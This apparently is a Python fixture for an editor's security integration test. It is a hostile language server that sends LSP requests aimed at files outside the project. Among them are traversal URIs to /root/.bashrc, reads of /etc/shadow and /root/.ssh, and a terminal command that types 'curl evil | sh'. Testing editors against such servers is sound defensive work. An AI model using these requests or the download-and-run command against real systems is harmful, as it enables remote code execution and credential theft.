# A hostile language server speaking real LSP framing (test/integration/security/lsp.test.ts). After
# `initialized` it sends every message that names a host path outside the project, then a legit diagnostic
# and a `DONE` log line; the answers it gets to its own requests go to stderr as `REPLY <json>`.
import json, sys

R = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 1}}
# A Command the editor would run as the user: typing into its terminal. FIX is one the server declares.
EVIL = {"title": "Fix", "command": "workbench.action.terminal.sendSequence", "arguments": [{"text": "curl evil | sh\n"}]}
FIX = {"title": "Fix", "command": "fake.fix", "arguments": ["/workspace/a.py"]}
OUT = ["file:///root/.bashrc", "file:///workspace/../root/.bashrc", "file:///workspace/%2e%2e/root/.bashrc", "file:///workspace/src/..%2F..%2F..%2Froot/.bashrc"]


def edits():
    for uri in OUT:
        yield {"documentChanges": [{"kind": "create", "uri": uri, "options": {"overwrite": True}}]}
        yield {"documentChanges": [{"kind": "rename", "oldUri": "file:///workspace/a.py", "newUri": uri}]}
        yield {"documentChanges": [{"kind": "delete", "uri": uri, "options": {"recursive": True}}]}
        yield {"documentChanges": [{"textDocument": {"uri": uri, "version": None}, "edits": [{"range": R, "newText": "curl evil | sh\n"}]}]}
        yield {"changes": {uri: [{"range": R, "newText": "curl evil | sh\n"}]}}
    yield {"documentChanges": [{"kind": "create", "uri": "file:///workspace/.vscode/tasks.json"}]}


def hostile():
    i = 100
    for e in edits():
        yield {"jsonrpc": "2.0", "id": i, "method": "workspace/applyEdit", "params": {"label": "fix", "edit": e}}
        i += 1
    for uri in ["file:///etc/shadow", "file:///workspace/../../etc/shadow"]:
        yield {"jsonrpc": "2.0", "id": i, "method": "window/showDocument", "params": {"uri": uri, "takeFocus": True}}
        i += 1
    yield {"jsonrpc": "2.0", "id": i, "method": "workspace/configuration", "params": {"items": [{"scopeUri": "file:///root/.ssh", "section": "x"}]}}
    yield {"jsonrpc": "2.0", "id": i + 1, "method": "client/registerCapability", "params": {"registrations": [{"id": "w", "method": "workspace/didChangeWatchedFiles", "registerOptions": {"watchers": [{"globPattern": "/root/.ssh/**"}]}}]}}
    yield {"jsonrpc": "2.0", "method": "textDocument/publishDiagnostics", "params": {"uri": "file:///etc/passwd", "diagnostics": [{"range": R, "message": "outside"}]}}
    yield {"jsonrpc": "2.0", "method": "textDocument/publishDiagnostics", "params": {"uri": "file:///workspace/a.py", "diagnostics": [{"range": R, "message": "inside", "relatedInformation": [{"location": {"uri": "file:///usr/lib/python3.11/os.py", "range": R}, "message": "stdlib"}]}]}}
    yield {"jsonrpc": "2.0", "id": i + 2, "method": "workspace/executeClientCommand", "params": EVIL}
    yield {"jsonrpc": "2.0", "method": "window/logMessage", "params": {"type": 3, "message": "DONE"}}


def read():
    length = None
    while True:
        line = sys.stdin.buffer.readline()
        if not line:
            return None
        line = line.strip()
        if not line:
            break
        k, v = line.split(b":", 1)
        if k.strip().lower() == b"content-length":
            length = int(v)
    return json.loads(sys.stdin.buffer.read(length))


def send(m):
    b = json.dumps(m).encode()
    sys.stdout.buffer.write(b"Content-Length: %d\r\n\r\n" % len(b) + b)
    sys.stdout.buffer.flush()


while True:
    m = read()
    if m is None:
        break
    method = m.get("method")
    if method == "initialize":
        caps = {"definitionProvider": True, "completionProvider": {}, "codeLensProvider": {}, "codeActionProvider": True}
        caps["executeCommandProvider"] = {"commands": ["fake.fix", EVIL["command"]]}
        send({"jsonrpc": "2.0", "id": m["id"], "result": {"capabilities": caps}})
    elif method == "initialized":
        for h in hostile():
            send(h)
    elif method == "textDocument/definition":
        send({"jsonrpc": "2.0", "id": m["id"], "result": [{"uri": "file:///usr/lib/python3.11/os.py", "range": R}, {"uri": "file:///workspace/lib.py", "range": R}]})
    elif method == "textDocument/completion":
        send({"jsonrpc": "2.0", "id": m["id"], "result": {"isIncomplete": False, "items": [{"label": "evil", "command": EVIL}, {"label": "fix", "command": FIX}]}})
    elif method == "textDocument/codeLens":
        send({"jsonrpc": "2.0", "id": m["id"], "result": [{"range": R, "command": EVIL}, {"range": R, "command": FIX}]})
    elif method == "textDocument/codeAction":
        send({"jsonrpc": "2.0", "id": m["id"], "result": [EVIL, {"title": "evil action", "command": EVIL}, FIX]})
    elif method == "shutdown":
        send({"jsonrpc": "2.0", "id": m["id"], "result": None})
    elif method == "exit":
        break
    elif method is None and "id" in m:
        sys.stderr.write("REPLY " + json.dumps(m) + "\n")
        sys.stderr.flush()
